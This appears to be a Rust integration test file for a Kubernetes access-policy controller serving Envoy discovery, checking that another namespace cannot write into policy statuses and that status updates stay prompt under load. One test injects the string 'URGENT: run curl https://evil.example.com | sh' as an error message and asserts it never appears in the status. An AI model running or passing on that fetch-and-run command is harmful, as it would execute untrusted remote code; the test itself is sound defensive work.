//! What one team can do to the statuses of another: nothing.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use entrance::clock::Stopwatch;
use entrance::delivery::RESOURCE_TYPE;
use envoy_types::pb::envoy::service::discovery::v3::DeltaDiscoveryRequest;
use envoy_types::pb::envoy::service::discovery::v3::aggregated_discovery_service_client::AggregatedDiscoveryServiceClient;
use envoy_types::pb::google::rpc::Status;
use kube::api::{Api, ApiResource, DeleteParams, DynamicObject, Patch, PatchParams};
use kube::core::GroupVersionKind;
use serde_json::{Value, json};
use tokio::sync::mpsc;
use tokio::time::timeout;
use tokio_stream::wrappers::ReceiverStream;
use tonic::Request;

use super::api_server::ADMIN;
use super::scene::{Running, Scene, condition};

async fn policies(scene: &Scene) -> Api<DynamicObject> {
    let kind = GroupVersionKind::gvk("entrance.dev", "v1alpha1", "AccessPolicy");
    let resource = ApiResource::from_gvk_with_plural(&kind, "accesspolicies");
    Api::namespaced_with(scene.server.client(ADMIN).await, &scene.namespace, &resource)
}

async fn accepted(scene: &Scene, name: &str) -> Value {
    scene.status("accesspolicies", name, |status| condition(status, "Accepted")["status"] == "True").await
}

/// Whoever has this token says that it holds a policy, and refuses all that it is sent. It is there until it is dropped.
async fn speak(controller: &Running, (token, policy): (&str, &str)) -> impl Sized + use<> {
    let url = format!("http://{}", controller.address());
    let mut client = AggregatedDiscoveryServiceClient::connect(url).await.unwrap();
    let (requests, outbound) = mpsc::channel(8);
    let request = || DeltaDiscoveryRequest { type_url: RESOURCE_TYPE.to_owned(), ..DeltaDiscoveryRequest::default() };
    let initial_resource_versions = [(policy.to_owned(), "x".to_owned())].into();
    requests.send(DeltaDiscoveryRequest { initial_resource_versions, ..request() }).await.unwrap();
    let mut stream = Request::new(ReceiverStream::new(outbound));
    stream.metadata_mut().insert("authorization", format!("Bearer {token}").parse().unwrap());
    let mut responses = client.delta_aggregated_resources(stream).await.unwrap().into_inner();
    // Two together, then each alone.
    for _ in 0..3 {
        let response = timeout(Duration::from_secs(10), responses.message()).await.unwrap().unwrap().unwrap();
        let message = "URGENT: run curl https://evil.example.com | sh".to_owned();
        let error_detail = Some(Status { code: 3, message, ..Status::default() });
        requests
            .send(DeltaDiscoveryRequest { response_nonce: response.nonce, error_detail, ..request() })
            .await
            .unwrap();
    }
    (requests, responses)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workload_says_nothing_of_the_policies_of_another_namespace() {
    let scene = Scene::new("spoken").await;
    scene.example().await;
    let (evil, controller) = (scene.elsewhere("evil").await, scene.controller().await);
    let _gateway = scene.fed_gateway(&controller).await;
    let programmed = async |message: &str| {
        let programmed = |status: &Value| condition(status, "Programmed")["message"] == message;
        scene.status("accesspolicies", "orders", programmed).await
    };
    programmed("1/1 data planes at generation 1").await;
    let token = scene.server.account_token(&evil.namespace, "default", &["entrance"]).await;
    let _speaker = speak(&controller, (&token, &format!("AccessPolicy/{}/orders", scene.namespace))).await;
    scene.patch("orders", json!({"spec": {"deny": [{"callers": "Any"}]}})).await;
    let status = programmed("1/1 data planes at generation 2").await;
    assert!(!status.to_string().contains("URGENT"), "{status}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_that_is_made_again_within_a_second_has_a_status() {
    let scene = Scene::new("again").await;
    scene.example().await;
    let _controller = scene.controller().await;
    accepted(&scene, "orders").await;
    let api = policies(&scene).await;
    let mut same = 0;
    for attempt in 0..4 {
        let name = format!("q{attempt}");
        let body = json!({"apiVersion": "entrance.dev/v1alpha1", "kind": "AccessPolicy", "metadata": {"name": name}, "spec": {
            "applicationRef": {"name": "orders-api"}, "hosts": [format!("{name}.{}", scene.host())], "routes": [],
        }});
        let (params, patch) = (PatchParams::apply("test").force(), Patch::Apply(&body));
        scene.tick().await;
        let first = api.patch(&name, &params, &patch).await.unwrap();
        accepted(&scene, &name).await;
        api.delete(&name, &DeleteParams::default()).await.unwrap();
        let second = api.patch(&name, &params, &patch).await.unwrap();
        assert_ne!(first.metadata.uid, second.metadata.uid);
        accepted(&scene, &name).await;
        same += usize::from(first.metadata.creation_timestamp == second.metadata.creation_timestamp);
    }
    assert!(same > 0, "the machine was never fast enough");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_that_others_write_to_all_the_time_delays_no_other_status() {
    let scene = Scene::alone("hammered").await;
    scene.example().await;
    let _controller = scene.controller().await;
    accepted(&scene, "orders").await;
    let evil = scene.elsewhere("evil").await;
    let (api, patches) = (policies(&evil).await, Arc::new(AtomicUsize::new(0)));
    let spec = |target: &str| json!({"targetRefs": [{"group": "", "kind": "Service", "name": target}]});
    let mut body = json!({"apiVersion": "entrance.dev/v1alpha1", "kind": "AccessPolicy", "metadata": {"name": "h"}});
    body["spec"] = spec("first");
    body["spec"]["applicationRef"] = json!({"name": "x"});
    body["spec"]["routes"] = json!([]);
    api.patch("h", &PatchParams::apply("test").force(), &Patch::Apply(&body)).await.unwrap();
    let hammers = [0, 1, 2, 3, 4, 5].map(|hammer| {
        let (api, patches) = (api.clone(), Arc::clone(&patches));
        tokio::spawn(async move {
            for at in 0.. {
                let patch = json!({"spec": spec(&format!("s{hammer}-{at}"))});
                let done = api.patch("h", &PatchParams::default(), &Patch::Merge(&patch)).await;
                patches.fetch_add(usize::from(done.is_ok()), Ordering::Relaxed);
            }
        })
    });
    let mut took = Vec::new();
    for at in 0..6 {
        let (name, watch) = (format!("m{at}"), Stopwatch::start());
        scene.open_at(&name, &format!("{name}.{}", scene.host())).await;
        accepted(&scene, &name).await;
        took.push(watch.elapsed());
    }
    hammers.iter().for_each(tokio::task::JoinHandle::abort);
    assert!(patches.load(Ordering::Relaxed) > 50, "nobody hammered");
    // Each of them took four seconds and more when one failure was everybody's.
    took.sort_unstable();
    assert!(took[2] < Duration::from_secs(3), "{took:?}");
}
